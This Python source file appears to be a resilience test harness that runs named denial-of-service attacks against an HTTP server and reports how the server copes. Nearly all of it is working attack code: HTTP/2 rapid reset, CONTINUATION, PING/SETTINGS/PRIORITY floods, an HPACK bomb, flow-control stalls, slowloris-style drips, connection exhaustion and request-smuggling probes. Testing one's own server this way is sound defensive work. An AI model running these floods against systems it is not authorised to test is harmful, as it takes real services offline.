"""The attacks. `attacks.py NAME HOST PORT PID` runs one of them against a server and prints its outcome in a line."""

import asyncio
import collections
import logging
import os
import re
import struct
import sys
import time

from shapes import SHAPES
import hpack

from wire import *

SECONDS = float(os.environ.get("SECONDS_EACH", "10"))
ATTACKS = {}


def attack(name):
    def add(run):
        ATTACKS[name] = run
        return run

    return add


class Target:
    def __init__(self, host, port, pid):
        self.host, self.port, self.pid = host, port, pid
        self.before = sockets(pid)

    def held(self):
        """Sockets that the server holds for this attack."""
        return sockets(self.pid) - self.before

    async def emptied(self, limit, start, least=0):
        """Waits until the server has closed the sockets of this attack; describes the times, from `start`."""
        first, most = None, self.held()
        while time.monotonic() - start < limit:
            now = self.held()
            most = max(most, now)
            if first is None and now < most:
                first = time.monotonic() - start
            if now <= least:
                return f"closed at {spread([first or time.monotonic() - start, time.monotonic() - start])}"
            await asyncio.sleep(0.1)
        return f"{self.held()} of {most} still open at {limit:.0f} s" + (f", first closed at {first:.1f} s" if first else "")

    async def connect(self, **how):
        return await asyncio.open_connection(self.host, self.port, **how)

    async def http2(self, **how):
        return await Http2.open(self.host, self.port, **how)


def ending():
    return time.monotonic() + SECONDS


async def until_closed(reader, limit):
    """Reads until the other side closes; returns the last 64 KiB, and the outcome in words."""
    start, came = time.monotonic(), b""
    try:
        async with asyncio.timeout(limit):
            while some := await reader.read(65_536):
                came = (came + some)[-65_536:]
        how = f"closed at {time.monotonic() - start:.1f} s"
    except TimeoutError:
        how = "open"
    except OSError as error:
        how = f"{type(error).__name__} at {time.monotonic() - start:.1f} s"
    return came, how


def statuses(came):
    return [it.decode() for it in re.findall(rb"HTTP/1\.[01] (\d{3})", came)]


async def push(connection, bytes_of, until):
    """Writes as fast as the server reads, until the connection or the time is over; returns the number of writes."""
    times = 0
    try:
        async with asyncio.timeout(until - time.monotonic()):
            while not connection.writer.is_closing() and connection.how is None:
                connection.writer.write(bytes_of())
                times += 1
                await connection.writer.drain()
                if times % 16 == 0:
                    await asyncio.sleep(0)
    except (OSError, TimeoutError):
        pass
    return times


async def flood(target, prepare, bytes_of, many=1, reads=True, connections=4):
    """Floods `connections` connections at a time, and opens another when one ends, until the time is over."""
    until, ends, units, opened = ending(), collections.Counter(), 0, 0

    async def one():
        nonlocal units, opened
        while time.monotonic() < until:
            try:
                connection = await target.http2(reads=reads)
                opened += 1
                prepare(connection)
                units += many * await push(connection, lambda: bytes_of(connection), until)
                if reads:
                    await asyncio.wait([connection.reading], timeout=1)
                    goaway = "GOAWAY {} {}".format(*connection.goaway).strip() if connection.goaway else ""
                    ends[goaway or connection.how or "open at the end"] += 1
                elif time.monotonic() < until:
                    ends["closed"] += 1
                else:
                    ends["stalled at the end"] += 1
                connection.writer.transport.abort()
            except OSError as error:
                ends[type(error).__name__] += 1
                await asyncio.sleep(0.05)

    await asyncio.gather(*(one() for _ in range(connections)))
    return f"{units:,} sent on {opened} connections: {counted(ends)}"


@attack("none")
async def nothing(target):
    await asyncio.sleep(SECONDS)
    return "–"


# Answers that are held back.


async def window_zero(target, count):
    start = time.monotonic()
    connections = [await target.http2(window=0) for _ in range(count)]
    for connection in connections:
        for _ in range(99):
            connection.request(LARGE)

    async def send_cheap(connection):
        while connection.how is None and time.monotonic() - start < 80:
            await asyncio.wait([connection.reading], timeout=15)
            if connection.how is None:
                connection.writer.write(window_update(connection.request(CHEAP), 10_000))

    await asyncio.gather(*(send_cheap(it) for it in connections))
    seen = collections.Counter()
    for it in connections:
        seen.update(it.statuses)
    ends = sorted(it.closed_after for it in connections if it.how)
    early = [it for it in ends if it < 29]
    late = [it for it in ends if it >= 29]
    still = len(connections) - len(ends)
    return (
        f"statuses {counted(seen)}; {len(early)} ended at {spread(early)}, {len(late)} at {spread(late)}"
        + f", {still} still open at 80 s" * (still > 0)
    )


@attack("h2-window-zero")
async def window_zero_10(target):
    """10 connections hold 99 large answers each, and send a cheap operation every 15 s."""
    return await window_zero(target, 10)


@attack("h2-window-zero-100")
async def window_zero_100(target):
    """100 connections hold 99 large answers each, and send a cheap operation every 15 s."""
    return await window_zero(target, 100)


@attack("h2-window-dribble")
async def window_dribble(target):
    """2 connections hold 100 large answers each, and open each window by a byte every 5 s."""
    start = time.monotonic()
    connections = [await target.http2(window=0) for _ in range(2)]
    streams = [[it.request(LARGE) for _ in range(100)] for it in connections]
    while time.monotonic() - start < 60 and any(it.how is None for it in connections):
        await asyncio.sleep(5)
        for connection, of_it in zip(connections, streams):
            if connection.how is None:
                connection.writer.write(b"".join(window_update(stream, 1) for stream in of_it))
    return "; ".join(it.told() for it in connections)


async def slow(target, receive_buffer, seconds=100, readers=5):
    loop, start = asyncio.get_running_loop(), time.monotonic()

    async def one():
        it = plain_socket(receive_buffer)
        await loop.sock_connect(it, (target.host, target.port))

        async def send():
            try:
                await loop.sock_sendall(it, post(LARGE, target.port) * 150)
            except OSError:
                pass

        sending = asyncio.ensure_future(send())
        read = 0
        try:
            while time.monotonic() - start < seconds:
                some = await asyncio.wait_for(loop.sock_recv(it, 6_000), 40)
                if not some:
                    return f"closed at {time.monotonic() - start:.0f} s"
                read += len(some)
                await asyncio.sleep(1)
            return "read to the end"
        except OSError as error:
            return f"{type(error).__name__} at {time.monotonic() - start:.0f} s"
        except TimeoutError:
            return f"nothing came for 40 s at {time.monotonic() - start:.0f} s"
        finally:
            totals.append(read)
            sending.cancel()
            it.close()

    totals, gone = [], []

    async def watch():
        while len(gone) < readers:
            while len(gone) < readers and target.held() < readers - len(gone):
                gone.append(time.monotonic() - start)
            await asyncio.sleep(0.2)

    await asyncio.sleep(0)
    reading = [asyncio.ensure_future(one()) for _ in range(readers)]
    await asyncio.sleep(1)
    watching = asyncio.ensure_future(watch())
    done = collections.Counter(await asyncio.gather(*reading))
    watching.cancel()
    let_go = [it for it in gone if it < seconds - 0.5]
    server = f"; the server let go of {len(let_go)} at {spread(let_go)}" if let_go else "; the server let go of none"
    return f"{counted(done)}, {min(totals) // 1000}–{max(totals) // 1000} kB each{server}"


@attack("slow-readers-small-buffer")
async def slow_small(target):
    """5 clients read 6 kB/s of pipelined large answers for 100 s, into a receive buffer of 8 kB."""
    return await slow(target, 8_192)


@attack("slow-readers")
async def slow_plain(target):
    """5 clients read 6 kB/s of pipelined large answers for 100 s, into the system's own receive buffer."""
    return await slow(target, None)


@attack("never-readers")
async def never(target):
    """100 clients pipeline 300 large requests each, and read nothing."""
    loop, start = asyncio.get_running_loop(), time.monotonic()
    all_of_it = post(LARGE, target.port) * 300
    clients = [plain_socket(8_192) for _ in range(100)]
    for it in clients:
        await loop.sock_connect(it, (target.host, target.port))

    async def send(it):
        try:
            await loop.sock_sendall(it, all_of_it)
        except OSError:
            pass

    sending = [asyncio.ensure_future(send(it)) for it in clients]
    told = await target.emptied(75, start)
    for it in sending:
        it.cancel()
    for it in clients:
        it.close()
    return told


# Silence.


async def silent(target, count, first=b"", drip=b"", every=0.5, limit=20):
    """Opens connections that send `first`, then nothing or `drip`; describes their answers and their ends."""
    start = time.monotonic()

    async def one():
        try:
            reader, writer = await target.connect()
        except OSError as error:
            return None, [type(error).__name__]
        writer.write(first)
        ended = asyncio.ensure_future(until_closed(reader, limit))
        place = 0
        while drip and not ended.done():
            try:
                writer.write(drip[place % len(drip) :][:1])
            except OSError:
                pass
            place += 1
            await asyncio.wait([ended], timeout=every)
        came, how = await ended
        writer.transport.abort()
        after = None if how == "open" else time.monotonic() - start
        said = statuses(came) or (["GOAWAY" if b"\x07\0\0\0\0\0" in came else "frames"] if came else ["nothing said"])
        return after, said + (["still open"] if how == "open" else [])

    all_of_them = await asyncio.gather(*(one() for _ in range(count)))
    ends = collections.Counter(" ".join(said) for _, said in all_of_them)
    return f"{counted(ends)}, closed at {spread([after for after, _ in all_of_them if after is not None])}"


@attack("silent-300")
async def silent_300(target):
    """300 connections that send nothing."""
    return await silent(target, 300)


@attack("h2-preface-silence")
async def h2_preface(target):
    """100 HTTP/2 prefaces, then silence."""
    return await silent(target, 100, PREFACE + settings())


@attack("h2-preface-pings")
async def h2_pings(target):
    """100 HTTP/2 prefaces, then a PING each half second."""
    start = time.monotonic()

    async def one():
        it = await target.http2()
        while it.how is None and time.monotonic() - start < 20:
            it.writer.write(frame(PING, 0, 0, b"12345678"))
            await asyncio.wait([it.reading], timeout=0.5)
        it.writer.transport.abort()
        return it.closed_after

    ends = [it for it in await asyncio.gather(*(one() for _ in range(100))) if it is not None]
    return f"{len(ends)} of 100 closed at {spread(ends)}"


@attack("h2-headers-without-end")
async def h2_without_end(target):
    """100 HEADERS without END_HEADERS."""
    head = hpack.Encoder().encode([(":method", "GET"), (":path", "/healthz")])
    return await silent(target, 100, PREFACE + settings() + frame(HEADERS, 0, 1, head))


@attack("h2-headers-without-end-second")
async def h2_without_end_second(target):
    """20 HEADERS without END_HEADERS, each behind an answered request: ended as idle, after 75 s."""
    start = time.monotonic()

    async def one():
        it = await target.http2()
        it.request(CHEAP)
        await asyncio.sleep(0.5)
        it.writer.write(frame(HEADERS, 0, it.stream(), it.head()))
        await asyncio.wait([it.reading], timeout=95)
        it.writer.transport.abort()
        return it.closed_after

    ends = [it for it in await asyncio.gather(*(one() for _ in range(20))) if it is not None]
    return f"{len(ends)} of 20 closed at {spread(ends)}"


@attack("h2-post-without-body")
async def h2_without_body(target):
    """100 streams of POST whose body does not come."""
    it = await target.http2()
    for _ in range(100):
        it.writer.write(frame(HEADERS, END_HEADERS, it.stream(), it.head()))
    await asyncio.wait([it.reading], timeout=10)
    return it.told()


@attack("header-drips-300")
async def header_drips(target):
    """300 heads of which a byte comes each half second."""
    return await silent(target, 300, b"GET /healthz HTTP/1.1\r\n", b"x-a: " + b"a" * 1000)


@attack("body-drips-300")
async def body_drips(target):
    """300 bodies of which a byte comes each half second."""
    head = post(CHEAP, target.port).partition(b"\r\n\r\n")[0]
    return await silent(target, 300, re.sub(rb"length: \d+", b"length: 1000", head) + b"\r\n\r\n", b" " * 1000)


async def idle(target, speaks):
    """Keeps 2,000 connections for the time of a flood; counts those that are answered, kept and closed."""
    gate = asyncio.Semaphore(100)

    async def one():
        async with gate:
            try:
                reader, writer = await target.connect()
                if speaks:
                    writer.write(post(CHEAP, target.port))
                came = await asyncio.wait_for(reader.read(4096), 10 if speaks else 0.05)
                return (statuses(came) or ["closed unheard"])[0], writer
            except TimeoutError:
                return "kept", writer
            except OSError as error:
                return type(error).__name__, None

    all_of_them = await asyncio.gather(*(one() for _ in range(2_000)))
    held = target.held()
    if speaks:
        await asyncio.sleep(SECONDS)
    told = f"{counted(collections.Counter(how for how, _ in all_of_them))}, {held} held"
    if not speaks:
        await asyncio.sleep(8)
    told += f", {target.held()} after {SECONDS if speaks else 8:.0f} s"
    for _, writer in all_of_them:
        if writer:
            writer.transport.abort()
    return told


@attack("idle-2000")
async def idle_2000(target):
    """2,000 connections that send one request and are kept; the bound is 1,000 from one address."""
    return await idle(target, True)


@attack("idle-2000-bound-5000")
async def idle_2000_unbound(target):
    """2,000 connections that send one request and are kept, with server.max_connections_per_address=5000."""
    return await idle(target, True)


@attack("silent-2000-bound-5000")
async def silent_2000(target):
    """2,000 connections that send nothing, with server.max_connections_per_address=5000."""
    return await idle(target, False)


# Floods by HTTP/2.


@attack("h2-rapid-reset")
async def rapid_reset(target):
    """Requests that are reset at once."""

    def some(it):
        parts = []
        for _ in range(100):
            stream = it.stream()
            parts.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, it.head("GET", "/healthz")))
            parts.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
        return b"".join(parts)

    return await flood(target, lambda it: None, some, 100)


@attack("h2-rapid-reset-operations")
async def rapid_reset_operations(target):
    """Operations that are reset once they run."""

    def some(it):
        streams = [it.request(LARGE) for _ in range(10)]
        return b"".join(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)) for stream in streams)

    return await flood(target, lambda it: None, some, 10)


@attack("h2-made-you-reset")
async def made_you_reset(target):
    """Requests that the server is made to reset, by a WINDOW_UPDATE of 0."""

    def some(it):
        parts = []
        for _ in range(100):
            stream = it.stream()
            parts.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, it.head("GET", "/healthz")))
            parts.append(window_update(stream, 0))
        return b"".join(parts)

    return await flood(target, lambda it: None, some, 100)


@attack("h2-continuation")
async def continuation(target):
    """Heads that never end, in CONTINUATION frames."""

    def begin(it):
        it.writer.write(frame(HEADERS, 0, it.stream(), it.head()))

    some = b"".join(frame(CONTINUATION, 0, 1, b"\x00\x03x-a\x01b" * 16) for _ in range(50))
    return await flood(target, begin, lambda it: some, 50)


@attack("h2-continuation-empty")
async def continuation_empty(target):
    """Heads that never end, in empty CONTINUATION frames."""

    def begin(it):
        it.writer.write(frame(HEADERS, 0, it.stream(), it.head()))

    some = frame(CONTINUATION, 0, 1) * 200
    return await flood(target, begin, lambda it: some, 200)


@attack("h2-settings")
async def settings_flood(target):
    """SETTINGS whose acknowledgements nobody reads."""
    some = settings(_4=65_535) * 200
    return await flood(target, lambda it: None, lambda it: some, 200, reads=False)


@attack("h2-ping")
async def ping_flood(target):
    """PINGs whose answers nobody reads."""
    some = frame(PING, 0, 0, b"12345678") * 200
    return await flood(target, lambda it: None, lambda it: some, 200, reads=False)


@attack("h2-empty-data")
async def empty_data(target):
    """Empty DATA without end."""

    def begin(it):
        it.writer.write(frame(HEADERS, END_HEADERS, it.stream(), it.head()))

    some = frame(DATA, 0, 1) * 200
    return await flood(target, begin, lambda it: some, 200)


@attack("h2-priority")
async def priority_flood(target):
    """PRIORITY of streams that do not exist."""

    def some(it):
        return b"".join(frame(PRIORITY, 0, it.stream(), struct.pack(">IB", 0, 16)) for _ in range(200))

    return await flood(target, lambda it: None, some, 200)


@attack("h2-hpack-bomb")
async def hpack_bomb(target):
    """A header of 4 kB that is named 5,000 times in one head."""

    def some(it):
        # The header goes into the HPACK table once, and is then named by its index.
        new = it.head(more=[("x-a", "a" * 4_000)])
        stream = it.stream()
        block = new + b"\xbe" * 5_000
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)

    return await flood(target, lambda it: None, some)


@attack("h2-odd")
async def h2_odd(target):
    """Invalid heads and frames, each with the response of the server."""
    odd = {
        "table of 2^31": lambda it: frame(HEADERS, 5, 1, b"\x3f\xe1\xff\xff\xff\x07" + it.head("GET", "/healthz")),
        "integer overflow": lambda it: frame(HEADERS, 5, 1, b"\xff" * 16),
        "TE in h2": lambda it: frame(HEADERS, 5, 1, it.head("GET", "/healthz", [("transfer-encoding", "chunked")])),
        "Connection": lambda it: frame(HEADERS, 5, 1, it.head("GET", "/healthz", [("connection", "close")])),
        "upper case": lambda it: frame(HEADERS, 5, 1, it.head("GET", "/healthz", [("X-Upper", "a")])),
        "CRLF in path": lambda it: frame(HEADERS, 5, 1, it.head("GET", "/healthz\r\nx: y")),
        "CRLF in value": lambda it: frame(HEADERS, 5, 1, it.head("GET", "/healthz", [("x-a", "b\r\nc: d")])),
        "length differs": lambda it: frame(HEADERS, 4, 1, it.head(more=[("content-length", "5")])) + frame(DATA, 1, 1, b"{}"),
        "even stream": lambda it: frame(HEADERS, 5, 2, it.head("GET", "/healthz")),
        "frame of 1 MB": lambda it: frame(DATA, 0, 1, b"a" * 1_000_000),
        "PUSH_PROMISE": lambda it: frame(PUSH_PROMISE, 4, 1, b"\0\0\0\2" + it.head("GET", "/healthz")),
        "window overflow": lambda it: window_update(0, 0x7FFF_FFFF) * 2,
        "head of 200 kB": lambda it: b"".join(
            [frame(HEADERS, 1, 1, it.head("GET", "/healthz"))]
            + [frame(CONTINUATION, 0, 1, b"\x00\x03x-a\x7f\xa1\x7c" + b"a" * 16_032) for _ in range(12)]
            + [frame(CONTINUATION, 4, 1)]
        ),
    }
    told = []
    for name, bytes_of in odd.items():
        it = await target.http2()
        it.writer.write(bytes_of(it))
        await asyncio.wait([it.reading], timeout=1)
        told.append(f"{name}: {it.told()}")
        it.writer.transport.abort()
    print("\n".join("  " + line for line in told), file=sys.stderr)
    return f"{len(told)} shapes, listed apart"


# Floods by HTTP/1.1.


@attack("header-flood")
async def header_flood(target):
    """200 connections, each opened 20 times, with heads of 60 kB."""
    request = post(CHEAP, target.port, f"x-a: {'a' * 60_000}\r\n")
    until, seen = ending(), collections.Counter()

    async def one():
        for _ in range(20):
            if time.monotonic() > until:
                return
            try:
                reader, writer = await target.connect()
                writer.write(request)
                came = await asyncio.wait_for(reader.read(4096), 5)
                seen[(statuses(came) or ["closed unheard"])[0]] += 1
                writer.transport.abort()
            except OSError as error:
                seen[type(error).__name__] += 1

    await asyncio.gather(*(one() for _ in range(200)))
    return counted(seen)


@attack("headers-big")
async def headers_big(target):
    """Heads of 40 kB, 500 headers, 70 kB, 1 MB; and 90 small headers."""
    told = []
    for name, headers in {
        "40 kB": b"x-a: " + b"a" * 40_000 + b"\r\n",
        "500": b"".join(b"x-%d: a\r\n" % number for number in range(500)),
        "70 kB": b"x-a: " + b"a" * 70_000 + b"\r\n",
        "1 MB": b"x-a: " + b"a" * 1_000_000 + b"\r\n",
        "90 small": b"".join(b"x-%d: a\r\n" % number for number in range(90)),
    }.items():
        reader, writer = await target.connect()
        writer.write(post(CHEAP, target.port, headers.decode()))
        came, how = await until_closed(reader, 1)
        told.append(f"{name}: {' '.join(statuses(came)) or how}")
    return ", ".join(told)


@attack("pipelined-2000")
async def pipelined(target):
    """2,000 requests in one piece."""
    start = time.monotonic()
    reader, writer = await target.connect()
    writer.write(post(CHEAP, target.port) * 2_000)
    came, seen = b"", collections.Counter()
    try:
        async with asyncio.timeout(10):
            while sum(seen.values()) < 2_000 and (some := await reader.read(65_536)):
                came += some
                found = list(re.finditer(rb"HTTP/1\.1 (\d{3})", came))
                seen.update(it[1].decode() for it in found)
                came = came[found[-1].end() :] if found else came
    except (TimeoutError, OSError):
        pass
    return f"{counted(seen)} in {time.monotonic() - start:.2f} s"


@attack("smuggling")
async def smuggling(target):
    """Shapes by which requests are smuggled, each with its statuses and the expected ones."""
    wrong, lines = [], []

    async def one(name, bytes_, right):
        reader, writer = await target.connect()
        try:
            writer.write(bytes_.replace(b"%(host)s", b"127.0.0.1:%d" % target.port))
        except OSError:
            pass
        came, how = await until_closed(reader, 1.5)
        writer.transport.abort()
        seen = ",".join(statuses(came))
        if seen not in right.split():
            wrong.append(f"{name} {seen or how}")
        lines.append(f"  {name}: {seen or 'nothing'}, {how}" + (f"  (right: {right})" if seen not in right.split() else ""))

    for shape in SHAPES:
        await one(*shape)
    print("\n".join(lines), file=sys.stderr)
    return f"{len(SHAPES)} shapes, listed apart; not as expected: {', '.join(wrong) or 'none'}"


@attack("leaving")
async def leaving(target):
    """100 clients of HTTP/1.1 that request the large answer and leave together, five times a second."""
    until, rounds, failed = ending(), 0, 0

    async def open_one():
        it = plain_socket()
        await asyncio.get_running_loop().sock_connect(it, (target.host, target.port))
        return it

    while time.monotonic() < until:
        clients = await asyncio.gather(*(open_one() for _ in range(100)))
        try:
            for it in clients:
                it.send(post(LARGE, target.port))
        except OSError:
            failed += 1
        await asyncio.sleep(0.003)
        for it in clients:
            it.close()
        rounds += 1
        await asyncio.sleep(0.2)
    return f"{rounds} times 100 left, {failed} failed"


@attack("overload")
async def overload(target):
    """200 connections that request the large answer again and again; memory is measured 10 s after."""
    until, seen, times = ending(), collections.Counter(), []

    async def one():
        try:
            reader, writer = await target.connect()
            while time.monotonic() < until:
                start = time.monotonic()
                writer.write(post(LARGE, target.port))
                head = await reader.readuntil(b"\r\n\r\n")
                length = int(re.search(rb"content-length: (\d+)", head)[1])
                body = await reader.readexactly(length)
                seen[f"{head.split()[1].decode()}{' degraded' * (b'errors' in body[:200])}"] += 1
                times.append(time.monotonic() - start)
            writer.close()
        except (OSError, EOFError, TypeError) as error:
            seen[type(error).__name__] += 1

    await asyncio.gather(*(one() for _ in range(200)))
    times.sort()
    return f"{counted(seen)}, p50 {times[len(times) // 2] * 1000:.0f} ms, at most {times[-1] * 1000:.0f} ms"


def main():
    # A flood keeps writing to connections that the server has closed.
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    name, host, port, pid = sys.argv[1:]
    print(asyncio.run(ATTACKS[name](Target(host, int(port), int(pid)))))


if __name__ == "__main__":
    main()
